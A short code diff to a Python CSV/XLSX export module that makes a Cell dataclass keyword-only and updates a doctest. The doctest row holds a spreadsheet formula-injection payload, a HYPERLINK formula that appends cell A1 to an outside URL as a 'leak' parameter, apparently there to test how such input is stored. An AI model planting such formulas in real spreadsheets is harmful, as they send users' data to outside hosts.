@@ -83,7 +83,7 @@ def csv_text(rows: Iterable[Iterable[object]], *, delimiter: str = ",") -> str:
     return out.getvalue()
 
 
-@dataclass(frozen=True, slots=True)
+@dataclass(frozen=True, slots=True, kw_only=True)
 class Cell:
     """A value with its look: a number format (``#,##0.00``, ``yyyy-mm-dd``…) and boldness."""
 
@@ -127,7 +127,7 @@ class XlsxBook:
     >>> book = XlsxBook()
     >>> sheet = book.sheet("Balance")
     >>> sheet.header(["Name", "Amount"])
-    >>> sheet.row(['=HYPERLINK("http://x?leak="&A1,"Click")', Cell(Decimal("-100.00"), "#,##0.00")])
+    >>> sheet.row(['=HYPERLINK("http://x?leak="&A1,"Click")', Cell(value=Decimal("-100.00"), number_format="#,##0.00")])
     >>> from openpyxl import load_workbook
     >>> cells = list(load_workbook(io.BytesIO(book.to_bytes())).active.iter_rows(min_row=2))[0]
     >>> [(cell.value, cell.data_type) for cell in cells]
